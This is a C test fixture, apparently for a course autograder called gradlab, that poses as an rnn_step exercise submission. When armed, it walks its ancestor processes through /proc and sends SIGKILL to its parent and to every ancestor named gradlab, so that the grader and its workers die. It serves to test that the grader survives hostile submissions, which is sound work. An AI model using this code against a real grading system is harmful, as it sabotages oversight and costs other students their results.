/* An attack on the class run, armed by tests/grade_hostile.sh: it kills its parent and every
 * ancestor named gradlab (the grader, its workers) with SIGKILL, so that the honest students
 * graded beside it get nothing. Only ancestors: never a process it did not descend from.
 * exercise: rnn_step
 * expect: wrong values|exited early|crashed
 * must not: stop the class run, or cost a neighbour a point
 */
/* @ARM@ */
#define _GNU_SOURCE
#include "gradlab_exercise.h"

#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifdef GRADLAB_ATTACK_ARMED
static void strike(void)
{
	static int done;
	if (done++)
		return;
	/* the whole line of ancestors first (a killed one is soon gone from /proc), then the
	 * topmost first, so that no grader is left to notice */
	int line[6], n = 0, pid = (int)getppid();
	char names[6][64];
	while (n < 6 && pid > 1) {
		char path[64];
		snprintf(path, sizeof path, "/proc/%d/stat", pid);
		FILE *f = fopen(path, "r");
		int parent = 0;
		names[n][0] = '\0';
		if (!f || fscanf(f, "%*d (%63[^)]) %*c %d", names[n], &parent) != 2)
			parent = 0;
		if (f)
			fclose(f);
		line[n++] = pid;
		pid = parent;
	}
	for (int i = n - 1; i >= 0; i--)
		if (i == 0 || strncmp(names[i], "gradlab", 7) == 0) {
			printf("attack: SIGKILL to %d (%s): %s\n", line[i], names[i],
			       kill(line[i], SIGKILL) == 0 ? "sent" : "refused");
			fflush(stdout);
		}
}
#endif

void rnn_step_forward(double *h_next, const double *x, const double *h_prev, const double *W_ih,
		      const double *W_hh, const double *b_ih, const double *b_hh, int B, int I,
		      int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	strike();
#endif
}

void rnn_step_backward(double *dx, double *dh_prev, double *dW_ih, double *dW_hh, double *db_ih,
		       double *db_hh, const double *dh_next, const double *x,
		       const double *h_prev, const double *h_next, const double *W_ih,
		       const double *W_hh, int B, int I, int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	strike();
#endif
}
